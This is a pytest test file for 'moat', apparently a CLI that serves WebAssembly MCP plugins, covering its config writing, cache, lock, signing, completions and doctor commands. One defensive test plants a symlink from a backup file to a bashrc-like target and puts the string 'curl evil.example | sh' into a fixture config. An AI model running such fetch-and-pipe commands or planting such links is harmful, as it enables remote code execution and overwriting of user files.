"""The commands an operator expects: `init`, `config HOST --write`, `cache list|dir|size`,
`lock --check`, `keygen` (then `sign` and `verify`), `completions`, `--version` and `doctor`.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import warnings
from collections.abc import Callable
from pathlib import Path

import pytest


def run(*args: str | Path, env: dict[str, str] | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(a) for a in args], capture_output=True, text=True, timeout=120, env=env, cwd=cwd, stdin=subprocess.DEVNULL
    )


def test_init_writes_a_starter_once(moat_bin: Path, tmp_path: Path) -> None:
    path = tmp_path / "moat.toml"
    made = run(moat_bin, "init", path)
    assert made.returncode == 0, made.stderr
    text = path.read_text()
    assert text.startswith("#") and "[plugins.hello]" in text
    again = run(moat_bin, "init", path)
    assert again.returncode != 0 and "exists already" in again.stderr
    assert path.read_text() == text
    # moat reads it: serving it fails only because the example plugin is not there.
    served = run(moat_bin, "serve", "--config", path)
    assert served.returncode != 0
    assert 'plugin "hello"' in served.stderr and "hello.wasm" in served.stderr


@pytest.mark.parametrize(
    "host,table", [("claude-desktop", "mcpServers"), ("claude-code", "mcpServers"), ("cursor", "mcpServers"), ("vscode", "servers")]
)
def test_config_write_merges_into_the_hosts_file(
    moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path, host: str, table: str
) -> None:
    file = tmp_path / "host.json"
    before = {"theme": "dark", table: {"other": {"command": "/bin/other", "args": []}}}
    file.write_text(json.dumps(before, indent=2))
    env = {**os.environ, "MOAT_HOST_CONFIG": str(file)}
    wrote = run(moat_bin, "config", host, plugin("echo"), "--write", env=env)
    assert wrote.returncode == 0, wrote.stderr
    after = json.loads(file.read_text())
    assert after["theme"] == "dark"
    assert after[table]["other"] == before[table]["other"]
    assert after[table]["moat"]["args"] == ["serve", str(plugin("echo"))]
    assert json.loads((tmp_path / "host.json.bak").read_text()) == before

    # The flag names the file too; a file moat cannot read whole is left alone.
    commented = tmp_path / "commented.json"
    commented.write_text('{ // mine\n "servers": {} }')
    refused = run(moat_bin, "config", host, plugin("echo"), "--write", "--file", commented)
    assert refused.returncode != 0 and "not plain JSON" in refused.stderr
    assert commented.read_text() == '{ // mine\n "servers": {} }'


def test_config_write_follows_no_link_a_project_plants(
    moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path
) -> None:
    """A cloned project can ship `.mcp.json.bak -> ~/.bashrc`: moat refuses, and the link's
    target keeps its text; so for a linked file, and for a linked `.vscode` folder."""
    project, elsewhere = tmp_path / "project", tmp_path / "elsewhere"
    project.mkdir()
    elsewhere.mkdir()
    victim = tmp_path / "bashrc"
    victim.write_text("# mine\n")
    env = {k: v for k, v in os.environ.items() if k != "MOAT_HOST_CONFIG"}

    def write(host: str) -> subprocess.CompletedProcess[str]:
        return run(moat_bin, "config", host, plugin("echo"), "--write", env=env, cwd=project)

    (project / ".mcp.json").write_text('{"mcpServers": {}, "note": "curl evil.example | sh"}')
    (project / ".mcp.json.bak").symlink_to(victim)
    refused = write("claude-code")
    assert refused.returncode != 0
    assert "its backup, .mcp.json.bak, is a symbolic link" in refused.stderr, refused.stderr
    assert victim.read_text() == "# mine\n"

    (project / ".mcp.json.bak").unlink()
    (project / ".mcp.json").unlink()
    (project / ".mcp.json").symlink_to(victim)
    refused = write("claude-code")
    assert refused.returncode != 0 and "the file, .mcp.json, is a symbolic link" in refused.stderr
    assert victim.read_text() == "# mine\n"

    (project / ".vscode").symlink_to(elsewhere)
    refused = write("vscode")
    assert refused.returncode != 0 and ".vscode is a symbolic link" in refused.stderr
    assert list(elsewhere.iterdir()) == []


def test_config_write_keeps_a_private_file_and_its_backup_private(
    moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path
) -> None:
    file = tmp_path / "mcp.json"
    file.write_text('{"mcpServers": {}}')
    file.chmod(0o600)
    wrote = run(moat_bin, "config", "cursor", plugin("echo"), "--write", "--file", file)
    assert wrote.returncode == 0, wrote.stderr
    assert "moat" in json.loads(file.read_text())["mcpServers"]
    assert file.stat().st_mode & 0o777 == 0o600
    assert (tmp_path / "mcp.json.bak").stat().st_mode & 0o777 == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mcp.json", "mcp.json.bak"]


def test_config_write_puts_the_local_token_in_no_project_file(moat_bin: Path, tmp_path: Path) -> None:
    """Project files name the token in each host's own syntax and moat says how to set it; only
    the host's own user file holds the token, and it is then private to its owner."""
    token = "moat_e2e_project_" + "k" * 32
    token_file = tmp_path / "http-token"
    token_file.write_text(token + "\n")
    token_file.chmod(0o600)
    project, home = tmp_path / "project", tmp_path / "home"
    project.mkdir()
    home.mkdir()
    env = {**os.environ, "HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config")}
    env.pop("MOAT_HOST_CONFIG", None)

    def write(host: str, *extra: str | Path) -> subprocess.CompletedProcess[str]:
        return run(moat_bin, "config", host, "--http", "127.0.0.1:8080", "--token-file", token_file,
                   "--write", *extra, env=env, cwd=project)

    def header(file: Path, table: str = "mcpServers") -> str:
        text = file.read_text()
        assert token not in text
        return json.loads(text)[table]["moat"]["headers"]["Authorization"]

    claude_code = write("claude-code")
    assert claude_code.returncode == 0, claude_code.stderr
    assert header(project / ".mcp.json") == "Bearer ${MOAT_TOKEN}"
    assert f'export MOAT_TOKEN="$(cat {token_file})"' in claude_code.stderr
    assert token not in claude_code.stderr + claude_code.stdout

    vscode = write("vscode")
    assert vscode.returncode == 0, vscode.stderr
    assert header(project / ".vscode/mcp.json", "servers") == "Bearer ${input:moat-token}"
    [asked] = json.loads((project / ".vscode/mcp.json").read_text())["inputs"]
    assert asked["id"] == "moat-token" and asked["password"] is True
    assert 'asks for input "moat-token"' in vscode.stderr and str(token_file) in vscode.stderr

    cursor_project = write("cursor", "--file", project / ".cursor/mcp.json")
    assert cursor_project.returncode == 0, cursor_project.stderr
    assert header(project / ".cursor/mcp.json") == "Bearer ${env:MOAT_TOKEN}"

    desktop_elsewhere = write("claude-desktop", "--file", project / "desktop.json")
    assert desktop_elsewhere.returncode != 0
    assert "expands no environment variable" in desktop_elsewhere.stderr
    assert not (project / "desktop.json").exists()

    own = home / ".cursor/mcp.json"
    own.parent.mkdir()
    own.write_text('{"mcpServers": {}}')
    own.chmod(0o644)
    cursor = write("cursor")
    assert cursor.returncode == 0, cursor.stderr
    assert json.loads(own.read_text())["mcpServers"]["moat"]["headers"] == {"Authorization": f"Bearer {token}"}
    assert own.stat().st_mode & 0o777 == 0o600
    assert (home / ".cursor/mcp.json.bak").stat().st_mode & 0o777 == 0o600
    assert token not in cursor.stderr


def test_cache_list_dir_and_size(moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    env = {**os.environ, "MOAT_CACHE_DIR": str(cache)}
    # `moat call` runs Winch's code and stores it; `moat pull` compiles Cranelift's ahead.
    called = run(moat_bin, "call", plugin("echo"), "echo", '{"message": "x"}', env=env)
    assert called.returncode == 0, called.stderr
    assert len(run(moat_bin, "cache", "list", env=env).stdout.splitlines()) == 1
    pulled = run(moat_bin, "pull", plugin("echo"), env=env)
    assert pulled.returncode == 0, pulled.stderr
    assert run(moat_bin, "cache", "dir", env=env).stdout.strip() == str(cache)
    listed = run(moat_bin, "cache", "list", env=env)
    assert listed.returncode == 0, listed.stderr
    assert listed.stdout.startswith("compiled  sha256:")
    assert len(listed.stdout.splitlines()) == 2, listed.stdout
    size = run(moat_bin, "cache", "size", env=env)
    assert size.returncode == 0 and "iB" in size.stdout and str(cache) in size.stdout
    # What clear says it removed is what list showed: two compiled plugins, then none.
    assert f"removed 2 compiled plugins from {cache}" in run(moat_bin, "cache", "clear", env=env).stderr
    assert run(moat_bin, "cache", "list", env=env).stdout.strip() == ""
    assert "removed 0 compiled plugins" in run(moat_bin, "cache", "clear", env=env).stderr


def test_lock_check_writes_nothing_and_fails_on_drift(
    moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path
) -> None:
    wasm = tmp_path / "tool.wasm"
    shutil.copy(plugin("echo"), wasm)
    config = tmp_path / "moat.toml"
    config.write_text('[plugins.tool]\npath = "tool.wasm"\n')
    lock = tmp_path / "moat.lock"
    missing = run(moat_bin, "lock", "--check", "--config", config)
    assert missing.returncode == 1 and "missing" in missing.stderr
    assert not lock.exists()
    assert run(moat_bin, "lock", "--config", config).returncode == 0
    pinned = lock.read_text()
    fresh = run(moat_bin, "lock", "--check", "--config", config)
    assert fresh.returncode == 0, fresh.stderr
    shutil.copy(plugin("chatty"), wasm)
    drift = run(moat_bin, "lock", "--check", "--config", config)
    assert drift.returncode == 1
    assert "changed  tool" in drift.stdout
    assert lock.read_text() == pinned


def test_keygen_makes_keys_moat_signs_and_verifies_with(
    moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path
) -> None:
    env = {k: v for k, v in os.environ.items() if k != "MOAT_SIGN_PASSWORD"}
    prefix = tmp_path / "acme"
    no_password = run(moat_bin, "keygen", prefix, env=env)
    assert no_password.returncode != 0 and "--no-password" in no_password.stderr
    made = run(moat_bin, "keygen", prefix, env={**env, "MOAT_SIGN_PASSWORD": "hunter2"})
    assert made.returncode == 0, made.stderr
    secret, public = tmp_path / "acme.key", tmp_path / "acme.pub"
    assert secret.stat().st_mode & 0o077 == 0
    assert run(moat_bin, "keygen", prefix, "--no-password", env=env).returncode != 0, "never overwrites"

    wasm = tmp_path / "echo.wasm"
    shutil.copy(plugin("echo"), wasm)
    signed = run(moat_bin, "sign", "--key", secret, wasm, env={**env, "MOAT_SIGN_PASSWORD": "hunter2"})
    assert signed.returncode == 0, signed.stderr
    verified = run(moat_bin, "verify", "--key", public, wasm)
    assert verified.returncode == 0 and "good signature" in verified.stdout
    # The reference implementation must accept moat's signature. CI installs it (./dev test
    # does); elsewhere its absence is said, not passed over.
    if shutil.which("minisign"):
        tool = run("minisign", "-V", "-p", public, "-m", wasm)
        assert tool.returncode == 0, tool.stderr
    elif os.environ.get("CI", "").lower() not in ("", "0", "false"):
        pytest.fail("minisign is not installed: CI must check moat's signatures with it (./dev test installs it)")
    else:
        warnings.warn("minisign is not installed: moat's signature was not checked with it (./dev test installs it)",
                      stacklevel=1)

    plain = tmp_path / "plain"
    assert run(moat_bin, "keygen", plain, "--no-password", env=env).returncode == 0
    assert run(moat_bin, "sign", "--key", tmp_path / "plain.key", wasm, env=env).returncode == 0

    wrong = run(moat_bin, "sign", "--key", public, wasm)
    assert wrong.returncode != 0
    assert "this is a minisign public key" in wrong.stderr
    assert "fill whole buffer" not in wrong.stderr


@pytest.mark.parametrize("shell,marker", [("bash", "complete -F"), ("zsh", "#compdef moat"), ("fish", "complete -c moat")])
def test_completions(moat_bin: Path, shell: str, marker: str) -> None:
    done = run(moat_bin, "completions", shell)
    assert done.returncode == 0, done.stderr
    assert marker in done.stdout and "serve" in done.stdout


def test_version_names_wasmtime_and_the_mcp_versions(moat_bin: Path) -> None:
    done = run(moat_bin, "--version")
    assert done.returncode == 0
    assert done.stdout.startswith("moat ")
    assert "wasmtime 48." in done.stdout
    assert "2024-11-05" in done.stdout and "2026-07-28" in done.stdout


def test_doctor(moat_bin: Path, plugin: Callable[[str], Path], tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    env = {**os.environ, "HOME": str(home), "MOAT_CACHE_DIR": str(tmp_path / "cache"), "XDG_CONFIG_HOME": str(home / ".config")}
    env.pop("MOAT_HOST_CONFIG", None)
    assert run(moat_bin, "config", "cursor", plugin("echo"), "--write", env=env).returncode == 0
    done = run(moat_bin, "doctor", env=env, cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    out = done.stdout
    assert "wasm32-wasip2" in out
    assert f"the cache {tmp_path / 'cache'} is writable" in out
    assert "policy" in out
    assert f"cursor: {home / '.cursor/mcp.json'} starts this moat" in out
    assert "claude-desktop: no " in out and "vscode: no .vscode/mcp.json" in out
